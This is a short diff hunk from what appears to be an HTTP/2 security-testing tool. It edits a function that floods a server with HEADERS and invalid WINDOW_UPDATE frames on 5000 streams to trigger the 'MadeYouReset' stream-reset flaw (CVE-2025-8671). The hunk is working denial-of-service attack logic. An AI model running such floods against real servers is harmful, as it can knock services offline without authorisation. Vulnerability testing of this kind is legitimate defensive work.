@@ -57,7 +57,7 @@ def made_you_reset(address: Address) -> str | None:
     """Mistakes that make the server reset its own streams (CVE-2025-8671)."""
     request = block(get("/v1/images", "POST"))
     return flood(address, (frame(HEADERS, END_HEADERS, s, request) + frame(
-        WINDOW_UPDATE, 0, s, number(0)) for s in streams(5000)), 5000)
+        WINDOW_UPDATE, 0, s, number(0x7FFFFFFF)) for s in streams(5000)), 5000)
 
 
 def made_you_reset_by_headers(address: Address) -> str | None:
